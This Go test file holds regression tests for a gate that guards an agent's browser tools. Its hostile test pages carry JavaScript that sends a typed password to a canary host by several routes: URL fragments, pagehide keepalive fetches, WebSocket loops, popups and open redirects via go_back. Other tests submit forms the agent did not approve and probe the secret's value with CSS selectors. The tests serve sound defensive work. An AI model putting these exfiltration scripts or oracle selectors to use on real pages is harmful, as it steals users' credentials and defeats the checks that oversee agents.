package main

// Attacks of the second review of issue #10 (an independent reviewer, on
// the first round of fixes), kept as regression tests: each page tries to
// get a typed secret to a canary on an in-scope host outside the secret's
// domains as the tab leaves the site, or to submit a form the action was
// not judged to submit, or to test a secret with a selector. Each fails
// (LEAK) if the attempt gets through.

import (
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

const r2Secret = "Zq8-Lm2_Vx7-Kp4"

// r2Manifest is secretBoundManifest (127.0.0.1 is the secret's domain;
// 127.0.0.3 and 127.0.0.4 are in scope, outside it) with the read commands
// and go_back.
var r2Manifest = strings.Replace(secretBoundManifest, "[browser.commands.snapshot]\n",
	"[browser.commands.snapshot]\n[browser.commands.extract_html]\n[browser.commands.wait_for]\n[browser.commands.go_back]\n", 1)

// r2Canary is a server on addr that records every request (WebSocket
// handshakes included). A path starting /slow answers after a second.
type r2Canary struct {
	url  string
	mu   sync.Mutex
	seen []string
}

func newR2Canary(t *testing.T, addr string, pages map[string]string) *r2Canary {
	t.Helper()
	c := &r2Canary{}
	u, stop, err := serveOn(addr, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 2048))
		c.mu.Lock()
		c.seen = append(c.seen, r.Method+" "+r.URL.RequestURI()+" body="+string(body))
		c.mu.Unlock()
		if strings.HasPrefix(r.URL.Path, "/slow") {
			time.Sleep(time.Second)
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if p, ok := pages[r.URL.Path]; ok {
			fmt.Fprint(w, p)
			return
		}
		fmt.Fprint(w, "<title>canary</title>canary")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	c.url = u
	return c
}

func (c *r2Canary) all() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.seen...)
}

func (c *r2Canary) hits(sub string) []string {
	var out []string
	for _, s := range c.all() {
		if strings.Contains(s, sub) {
			out = append(out, s)
		}
	}
	return out
}

// leaked returns the requests that carry the secret (raw or escaped).
func (c *r2Canary) leaked(value string) []string {
	var out []string
	for _, s := range c.all() {
		dec, _ := url.QueryUnescape(s)
		dec2, _ := url.QueryUnescape(dec)
		if strings.Contains(s, value) || strings.Contains(dec, value) || strings.Contains(dec2, value) {
			out = append(out, s)
		}
	}
	return out
}

// r2Site serves pages on 127.0.0.1, with an open redirect /redir?to=U,
// and /echo. Every request is logged by path.
func r2Site(t *testing.T, pages map[string]string) (string, *siteLog) {
	t.Helper()
	log := &siteLog{hits: map[string]int{}}
	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		log.mu.Lock()
		log.hits[r.URL.Path]++
		log.mu.Unlock()
		switch r.URL.Path {
		case "/redir":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
			return
		case "/redir307":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
			return
		case "/echo":
			r.ParseForm()
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<title>Sign in</title><p>Wrong password</p><input type=password id=h name=pw value="%s">`, html.EscapeString(r.PostForm.Get("pw")))
			return
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Cache-Control", "no-store")
		if page, ok := pages[r.URL.Path]; ok {
			fmt.Fprint(w, page)
			return
		}
		fmt.Fprintf(w, "<title>%s</title>%s", r.URL.Path, r.URL.Path)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	return site, log
}

func r2Report(t *testing.T, what string, got []string) {
	t.Helper()
	if len(got) > 0 {
		t.Errorf("LEAK %s: canary saw %d request(s) with the secret: %q", what, len(got), got)
	} else {
		t.Logf("HELD %s", what)
	}
}

func r2Setup(t *testing.T) *fixture {
	t.Setenv("BROWSERGATE_TEST_BOUND_PW", r2Secret)
	return startWith(t, r2Manifest)
}

// TestSecretAgentNavigationCannotBeRaced: as the agent navigates away, the
// page tries to cancel the emptying and move the tab itself to the
// agent's very destination with the value in the fragment. The emptying is
// the browser's own navigation (not cancelable), and only a request for
// the URL the agent named, fragment included, is the agent's.
func TestSecretAgentNavigationCannotBeRaced(t *testing.T) {
	f := r2Setup(t)
	canary := newR2Canary(t, "127.0.0.3:0", map[string]string{
		"/next": `<title>next</title><script>if (location.hash) fetch('/steal-hash?v=' + location.hash.slice(1));</script>next`,
	})
	next := canary.url + "/next"
	site, _ := r2Site(t, map[string]string{
		"/a": `<title>a</title><p>When signed in, continue at ` + next + `</p>
<input type=password id=pw name=pw>
<script>
navigation.addEventListener('navigate', e => {
  if (window.done) return;
  window.done = 1;
  e.preventDefault();
  location.href = '` + next + `#' + encodeURIComponent(document.getElementById('pw').value);
});
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/a"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	out, refused := f.call(t, "e2e.navigate", map[string]any{"url": next})
	t.Logf("navigate away (refused=%v):\n%s", refused, out)
	time.Sleep(500 * time.Millisecond)
	t.Logf("canary saw: %q", canary.all())
	r2Report(t, "page navigates to the agent's own destination + #secret while the gate empties the page", canary.leaked(r2Secret))
}

// TestSecretSiteIsNotLeftByAClick: a click on a link off the site a secret
// was typed on is refused (leave with navigate, which empties the page
// first), so the page's pagehide handler never runs after the next page
// commits, when it could send the value.
func TestSecretSiteIsNotLeftByAClick(t *testing.T) {
	f := r2Setup(t)
	canary := newR2Canary(t, "127.0.0.3:0", nil)
	site, _ := r2Site(t, map[string]string{
		"/b": `<title>b</title><input type=password id=pw><a id=l href="` + canary.url + `/help">Help</a>
<script>
addEventListener('pagehide', () => {
  const v = encodeURIComponent(document.getElementById('pw').value);
  fetch('` + canary.url + `/steal-pagehide?v=' + v, {keepalive: true, mode: 'no-cors'}).catch(() => {});
  try { new WebSocket('` + strings.Replace(canary.url, "http", "ws", 1) + `/ws-pagehide?v=' + v); } catch (e) {}
});
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/b"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	out, refused := f.call(t, "e2e.click", map[string]any{"selector": "#l"})
	t.Logf("click (refused=%v):\n%s", refused, out)
	time.Sleep(time.Second)
	f.call(t, "e2e.snapshot", nil)
	t.Logf("canary saw: %q", canary.all())
	r2Report(t, "pagehide keepalive fetch / WebSocket after a judged click off the site", canary.leaked(r2Secret))
}

// TestSecretNoWebSocketAsAClickLeaves: a page that opens WebSockets to the
// host a click would leave for gets nothing out: the click is refused.
func TestSecretNoWebSocketAsAClickLeaves(t *testing.T) {
	f := r2Setup(t)
	canary := newR2Canary(t, "127.0.0.3:0", nil)
	ws := strings.Replace(canary.url, "http", "ws", 1)
	site, _ := r2Site(t, map[string]string{
		"/w": `<title>w</title><input type=password id=pw><a id=l href="` + canary.url + `/slow-help">Help</a>
<script>
document.getElementById('l').addEventListener('click', () => {
  const v = encodeURIComponent(document.getElementById('pw').value);
  setInterval(() => { try { new WebSocket('` + ws + `/ws-leave?v=' + v); } catch (e) {} }, 20);
});
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/w"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	out, refused := f.call(t, "e2e.click", map[string]any{"selector": "#l"})
	t.Logf("click (refused=%v):\n%s", refused, out)
	time.Sleep(time.Second)
	t.Logf("canary saw: %d requests, ws: %d", len(canary.all()), len(canary.hits("ws-leave")))
	r2Report(t, "WebSocket to the host the tab is leaving for, while the navigation is in flight", canary.leaked(r2Secret))
}

// TestSecretGoBackIntoACraftedEntry: the page rewrites its history entry
// into an open redirect of its own site carrying the value, then moves on;
// go_back into that entry is the agent's navigation, but a redirect of it
// out of the secret's domains is not (the agent named a URL inside them).
func TestSecretGoBackIntoACraftedEntry(t *testing.T) {
	f := r2Setup(t)
	canary := newR2Canary(t, "127.0.0.3:0", nil)
	site, _ := r2Site(t, map[string]string{
		"/c": `<title>c</title><input type=password id=pw oninput="clearTimeout(window.t); const v = this.value; window.t = setTimeout(() => {
  history.replaceState(null, '', '/redir?to=' + encodeURIComponent('` + canary.url + `/steal-back?v=' + encodeURIComponent(v)));
  location.href = '/c2';
}, 700)"><script>addEventListener('unload', () => {});</script>`,
		"/c2": `<title>Signed in</title><p>Welcome. Go back to continue.</p>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/c"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	time.Sleep(1500 * time.Millisecond)
	out, _ := f.call(t, "e2e.snapshot", nil)
	t.Logf("snapshot:\n%s", out)
	out, refused := f.call(t, "e2e.go_back", nil)
	t.Logf("go_back (refused=%v):\n%s", refused, out)
	time.Sleep(500 * time.Millisecond)
	t.Logf("canary saw: %q", canary.all())
	r2Report(t, "go_back into a page-crafted entry (open redirect with the value)", canary.leaked(r2Secret))
}

// popupJS is a script for a popup written by its opener: it opens
// WebSockets to ws in a tight loop once the opener gave it v.
func r2PopupDoc(ws, tag string) string {
	return `'<title>popup</title><script>setInterval(() => { if (window.v) try { new WebSocket(\'` + ws + `/` + tag + `?v=\' + encodeURIComponent(window.v)); } catch (e) {} }, 3);<\/script>'`
}

// TestSecretPopupOpenedAsThePageEmpties: the page opens a popup with the
// value as the gate empties it; the popups are closed again once the page
// is gone, before the tab leaves, so nothing of the popup's gets out.
func TestSecretPopupOpenedAsThePageEmpties(t *testing.T) {
	f := r2Setup(t)
	canary := newR2Canary(t, "127.0.0.3:0", nil)
	ws := strings.Replace(canary.url, "http", "ws", 1)
	site, _ := r2Site(t, map[string]string{
		"/a": `<title>a</title><input type=password id=pw>
<script>
navigation.addEventListener('navigate', e => {
  if (window.done) return;
  window.done = 1;
  const w = window.open('', 'p2');
  if (!w) { return; }
  w.document.write(` + r2PopupDoc(ws, "ws-popup-late") + `); w.document.close();
  w.v = document.getElementById('pw').value;
});
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/a"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	out, refused := f.call(t, "e2e.navigate", map[string]any{"url": canary.url + "/after"})
	t.Logf("navigate away (refused=%v):\n%s", refused, out)
	time.Sleep(time.Second)
	out, _ = f.call(t, "e2e.snapshot", nil)
	t.Logf("snapshot:\n%s", out)
	t.Logf("canary saw %d, ws %d", len(canary.all()), len(canary.hits("ws-popup-late")))
	r2Report(t, "popup opened during the emptying, WebSocket loop", canary.leaked(r2Secret))
}

// TestSecretPopupAsAClickLeaves: a popup holding the value sends
// WebSockets in a loop while the page tries to leave by a click; the
// click is refused and the popup's connections are held to the secret's
// domains.
func TestSecretPopupAsAClickLeaves(t *testing.T) {
	f := r2Setup(t)
	canary := newR2Canary(t, "127.0.0.3:0", nil)
	ws := strings.Replace(canary.url, "http", "ws", 1)
	site, _ := r2Site(t, map[string]string{
		"/pop": `<title>pop</title><button id=o onclick="window.w = window.open('', 'p'); w.document.write(` + html.EscapeString(r2PopupDoc(ws, "ws-popup")) + `); w.document.close();">Open notes</button>
<input type=password id=pw oninput="if (window.w) w.v = this.value"><a id=l href="` + canary.url + `/help">Help</a>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/pop"})
	out := f.mustAllow(t, "e2e.click", map[string]any{"selector": "#o"})
	t.Logf("click open popup:\n%s", out)
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	time.Sleep(300 * time.Millisecond)
	out, refused := f.call(t, "e2e.click", map[string]any{"selector": "#l"})
	t.Logf("click away (refused=%v):\n%s", refused, out)
	time.Sleep(time.Second)
	t.Logf("canary saw %d, ws %d", len(canary.all()), len(canary.hits("ws-popup")))
	r2Report(t, "popup WebSocket loop as the tab leaves by a judged click", canary.leaked(r2Secret))
}

// TestSubmissionsAfterTheActionAreHeld: a plain click (judged to submit
// nothing) whose handler submits a form a moment later, after the click
// returned and a read-only call ran: GET forms into the tab by submit()
// and requestSubmit(), a GET form whose action carries user info, a POST
// form inside a same-origin iframe. None reaches the site.
func TestSubmissionsAfterTheActionAreHeld(t *testing.T) {
	t.Parallel()
	f := start(t, "launch", "")
	site, log := r2Site(t, nil)
	host := strings.TrimPrefix(site, "http://")
	delayed := func(form string, how string) string {
		return form + `<button type=button id=b onclick="setTimeout(() => document.getElementById('f').` + how + `(), 1200)">Details</button>`
	}
	pages := map[string]string{
		"/gt":    delayed(`<form id=f action="/danger_gt" method=get><input name=confirm value=yes></form>`, "submit"),
		"/grs":   delayed(`<form id=f action="/danger_grs" method=get><input name=confirm value=yes></form>`, "requestSubmit"),
		"/gcred": delayed(`<form id=f action="http://u:p@`+host+`/danger_gcred" method=get><input name=confirm value=yes></form>`, "submit"),
		"/icred": `<form id=f action="http://u:p@` + host + `/danger_icred" method=get target=fr><input name=confirm value=yes></form><iframe name=fr src="/blank"></iframe><button type=button id=b onclick="document.getElementById('f').submit()">Details</button>`,
		"/ifpost": `<iframe id=fr srcdoc="<form id=f method=post action=/danger_ifpost><input name=confirm value=yes></form>"></iframe>` +
			`<button type=button id=b onclick="setTimeout(() => document.getElementById('fr').contentDocument.getElementById('f').submit(), 1200)">Details</button>`,
		"/ifget": `<iframe id=fr srcdoc="<form id=f method=get action=/danger_ifget target=_top><input name=confirm value=yes></form>"></iframe>` +
			`<button type=button id=b onclick="setTimeout(() => document.getElementById('fr').contentDocument.getElementById('f').submit(), 1200)">Details</button>`,
	}
	for p, h := range pages {
		pages[p] = "<title>" + p + "</title>" + h
	}
	site2, log2 := r2Site(t, pages)
	_ = log
	for _, c := range []string{"/gt", "/grs", "/gcred", "/icred", "/ifpost", "/ifget"} {
		f.mustAllow(t, "e2e.navigate", map[string]any{"url": f.siteURL})
		f.mustAllow(t, "e2e.navigate", map[string]any{"url": site2 + c})
		out, refused := f.call(t, "e2e.click", map[string]any{"selector": "#b"})
		f.call(t, "e2e.snapshot", nil)
		time.Sleep(1800 * time.Millisecond)
		next, _ := f.call(t, "e2e.snapshot", nil)
		danger := "/danger_" + strings.TrimPrefix(c, "/")
		if n := log2.count(danger) + log.count(danger); n > 0 {
			t.Errorf("LEAK %s: click (refused=%v) then %s sent unjudged (%d); click: %s; next: %s", c, refused, danger, n, rvFirst(out), next)
		} else {
			t.Logf("HELD %s: %s / %s", c, rvFirst(out), next[strings.LastIndex(next, "[state]"):])
		}
	}
}

func rvFirst(s string) string {
	l, _, _ := strings.Cut(s, "\n")
	return l
}

// TestNoSelectorOracleVariants: selector spellings that test a value
// (:is(), the i flag, :not(), *=, $=, :has lists) and wait_for's text are
// refused on every page of the secret's domains, the later ones too.
func TestNoSelectorOracleVariants(t *testing.T) {
	f := r2Setup(t)
	site, _ := r2Site(t, map[string]string{
		"/login": `<title>Sign in</title><form method=post action="/echo"><input type=password id=pw name=pw><button id=go>Sign in</button></form>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/login"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	f.mustAllow(t, "e2e.submit_form", map[string]any{"selector": "#go"})
	allowed := 0
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"e2e.wait_for", map[string]any{"selector": `#h:is([value^="Zq8"])`, "timeout_ms": 100}},
		{"e2e.wait_for", map[string]any{"selector": `#h[value^=Zq8 i]`, "timeout_ms": 100}},
		{"e2e.click", map[string]any{"selector": `input:not([value^="Zq9"])`}},
		{"e2e.snapshot", map[string]any{"selector": `#h[value*="Lm2"]`}},
		{"e2e.extract_html", map[string]any{"selector": `#h:has(+ [value^=Z]), #h[value$="Kp4"]`}},
		{"e2e.wait_for", map[string]any{"text": "Zq8-Lm", "timeout_ms": 100}},
		{"e2e.wait_for", map[string]any{"selector": `#h:placeholder-shown`, "timeout_ms": 100}},
	} {
		out, refused := f.call(t, c.tool, c.args)
		if !refused {
			allowed++
		}
		t.Logf("%s %v refused=%v: %s", c.tool, c.args, refused, rvFirst(out))
	}
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/other"})
	out, refused := f.call(t, "e2e.wait_for", map[string]any{"text": "x", "timeout_ms": 100})
	t.Logf("other page of the domain, wait_for text refused=%v: %s", refused, rvFirst(out))
	if allowed > 1 || !refused {
		t.Errorf("LEAK oracle rule: %d value tests allowed", allowed)
	}
}
